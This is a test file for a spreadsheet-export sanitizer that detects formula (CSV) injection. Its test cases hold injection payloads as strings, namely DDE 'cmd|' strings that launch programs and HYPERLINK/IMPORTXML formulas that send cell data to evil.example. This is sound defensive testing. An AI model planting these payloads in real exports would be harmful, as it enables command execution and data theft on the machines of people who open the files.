import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { isFormula, isHarmfulId } from '../../../core/export/formula.ts'

describe('what a spreadsheet would run', () => {
  test.each([
    '=1+1',
    '=A1',
    '=SUM(A1:A9)',
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example?x="&A1,"click")',
    '=IMPORTXML(CONCAT("https://evil.example",A1),"//a")',
    '="text"',
    '=-1',
    '=Ahmad',
    '=(1)',
    '+SUM(A1)',
    '-SUM(A1)',
    "@SUM(1+9)*cmd|' /C calc'!A0",
    '+1+1',
    "-2+3+cmd|' /C calc'!D2",
    '-1-2',
    '+A1',
    '-B2*3',
    '@A1',
    '+$A$1',
    "+'Sheet 1'!A1",
    '-Sheet1!A1',
    '=[Book1.xlsx]Sheet1!A1',
    '+[1]Sheet1!A1',
    '-"abc"',
    "+cmd|'/c notepad'!A1",
    '-Ahmad+HYPERLINK("x")',
    '-(1+2)',
    '-HYPERLINK ("https://evil.example")',
    '@SUM  (A1)',
    '+INDEX (Sheet1!A1)',
    '==1',
    '=+-@1',
    '  =1+1',
    '\t=1+1',
    '\r\n=1+1',
    '\u00a0=1+1',
    '\ufeff=1+1',
    '\u0000=1+1',
    '\u200b=1+1',
    '\uff1d1+1',
    '\uff0bSUM(A1)',
    '\uff0d1-2',
    '\uff20SUM(A1)',
    '=１＋１',
    '=Übersicht!A1',
    '=\\x',
    '={1}',
    '=#REF!',
    '=$A$1',
    '=.5',
  ])('%j', payload => {
    expect(isFormula(payload)).toBe(true)
  })
})

describe('what stays whole', () => {
  test.each([
    '',
    'Acme',
    '-Ahmad',
    '- Ahmad',
    '+Ahmad',
    '@ahmad',
    '@acme/core',
    '-Ahmad (CEO)',
    '-Ahmad (CEO, Berlin)',
    '-Draft (2)',
    '-5',
    '-5.25',
    '+3',
    '-1e5',
    '-1,234.50',
    '-12%',
    '-$5',
    '- 20 EUR',
    '+49 30 1234567',
    '+1 (555) 123-4567',
    '+1-555-123-4567 ext. 12',
    '+4930/1234567',
    '2026-05-31',
    '31/05/2026',
    '+012026-05-31',
    '-5 apples',
    '-20% off today',
    '+1 team',
    '-',
    '--',
    '=',
    '= ',
    '=>',
    '===',
    '=)',
    '->',
    '-a1@acme.com',
    '-A4 paper',
    '-B2B sales',
    '1+1',
    'A=B',
    "'=1+1",
    'a\n=1+1',
    '-Müller',
    '- first, - second',
    '+1',
    '@',
  ])('%j', whole => {
    expect(isFormula(whole)).toBe(false)
  })
})

describe('keys', () => {
  test.each(['=1+1', '=cmd|x!A1', '@SUM(A1)', '+HYPERLINK("x")', "-'a'!A1", '\uff1d1'])('%j does harm', key => {
    expect(isHarmfulId(key)).toBe(true)
  })
  test.each(['-K1-x9', '+A1', '-1-2', 'w_1', '-Mk3xYz-AB12', '@acme'])('%j is left as it is', key => {
    expect(isHarmfulId(key)).toBe(false)
  })
})

test('an apostrophe in front makes anything harmless', () => {
  fc.assert(
    fc.property(fc.string({ unit: 'binary' }), payload => {
      expect(isFormula(`'${payload}`)).toBe(false)
    }),
  )
})

test('whatever does not start with an operator after blanks is no formula', () => {
  fc.assert(
    fc.property(fc.string(), payload => {
      fc.pre(
        !/^[\s\p{Cc}\p{Cf}]*[=+\-@\uff1d\uff0b\uff0d\uff20\ufe62\ufe63\ufe66\ufe6b\u207a\u207c\u208a\u208c]/u.test(
          payload,
        ),
      )
      expect(isFormula(payload)).toBe(false)
    }),
  )
})
